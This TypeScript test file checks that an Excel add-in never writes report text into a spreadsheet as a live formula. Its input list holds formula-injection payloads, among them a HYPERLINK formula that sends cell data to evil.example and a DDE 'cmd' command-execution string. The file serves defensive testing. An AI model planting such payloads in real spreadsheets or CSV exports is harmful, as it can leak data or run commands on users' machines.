/**
 * Report text never becomes a formula — in any column, whatever its type (DESIGN.md). Hostile text is put
 * in every column of reports that together have every column type: where it does not parse as the
 * column's type, the parser keeps it verbatim as text, and the writer must protect it like any name. On
 * insert and on refresh, on every host mode the manifest admits, under both readings of whether a text
 * number format alone blocks formulas (excel.md leaves it open).
 */
import { insertReportTable } from "../../../src/excel/insert-table";
import { refreshReportTable } from "../../../src/excel/refresh-table";
import { findReport, parseReport, type ColumnType, type ParsedReport } from "../../../src/reports";
import { FORMULA_VALUE } from "../../emulator/excel";
import { syntheticReport } from "../../emulator/graph/synthetic-report";
import { simulatedExcel } from "./sim-host";

const CORPUS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-1+1",
  "@SUM(A1:A9)",
  "+1+1",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "＝1+1", // full-width look-alikes
  "＋1+1",
  "－1+1",
  "＠SUM(A1)",
  "﹦1+1", // small forms
  "=",
  "'=1",
  "TRUE",
  "1E3",
  "#REF!",
];

/** Between them every column type: date, integer, bytes, boolean, duration, text, list. */
const REPORTS = ["getTeamsUserActivityUserDetail", "getMailboxUsageDetail"];
const ALL_TYPES: ColumnType[] = ["date", "integer", "bytes", "boolean", "duration", "text", "list"];

const quote = (s: string) => `"${s.replaceAll('"', '""')}"`;

/** Every column of every row holds the row's corpus text. */
function hostileReport(name: string): Promise<ParsedReport> {
  const report = findReport(name)!;
  const header = report.columns.map((c) => quote(c.name)).join(",");
  const rows = CORPUS.map((text) => report.columns.map(() => quote(text)).join(","));
  return parseReport(`${header}\r\n${rows.join("\r\n")}\r\n`, report);
}

it("the reports cover every column type", () => {
  const types = new Set(REPORTS.flatMap((n) => findReport(n)!.columns.map((c) => c.type)));
  expect([...types].sort()).toEqual([...ALL_TYPES].sort());
});

/** Each cell holds what the parser made of the text (a typed value, or the text itself), never a formula. */
function expectExactlyTheReport(
  sim: ReturnType<typeof simulatedExcel>["sim"],
  table: string,
  parsed: ParsedReport,
) {
  const view = sim.workbook.table(table)!;
  const width = parsed.table.columns.length;
  const rows = view.rows.map((r) => r.slice(0, width));
  expect(rows).toEqual(parsed.table.rows(0));
  expect(rows.flat()).not.toContain(FORMULA_VALUE);
  // Every string cell holds its row's text exactly, in whatever column type it landed.
  rows.forEach((row, r) => row.forEach((v) => typeof v === "string" && expect(v).toBe(CORPUS[r])));
  const sheet = sim.workbook.sheet(view.sheet);
  const formulas = sheet.formulas(view.address.split("!")[1]!).flat();
  expect(formulas.filter((f) => typeof f === "string" && f.startsWith("=") && !CORPUS.includes(f))).toEqual(
    [],
  );
}

describe.each(["web", "desktop", "excel2019"] as const)("on %s", (host) => {
  describe.each([true, false])("text format blocks formulas: %s", (blocks) => {
    it.each(REPORTS)("%s: insert, then refresh over ordinary data", async (name) => {
      const excel = simulatedExcel({ host, textFormatBlocksFormulas: blocks });
      const hostile = await hostileReport(name);
      // Some hostile text lands in every column type (it did not parse there).
      const keptTypes = new Set(
        hostile.table.columns.filter((c) => c.kept.size > 0 || c.store === 2).map((c) => c.type),
      );
      expect(keptTypes.size).toBe(new Set(hostile.table.columns.map((c) => c.type)).size);

      const { entry } = await insertReportTable(excel.host, hostile, { parameter: "D7" });
      expectExactlyTheReport(excel.sim, entry.table, hostile);

      const report = findReport(name)!;
      const ordinary = await parseReport(syntheticReport(report, { rows: 5, seed: 1 }), report);
      const plain = await refreshReportTable(excel.host, entry, ordinary);
      expect(excel.sim.workbook.table(entry.table)!.rows).toEqual(ordinary.table.rows(0));
      await refreshReportTable(excel.host, plain, hostile);
      expectExactlyTheReport(excel.sim, entry.table, hostile);
    });
  });
});
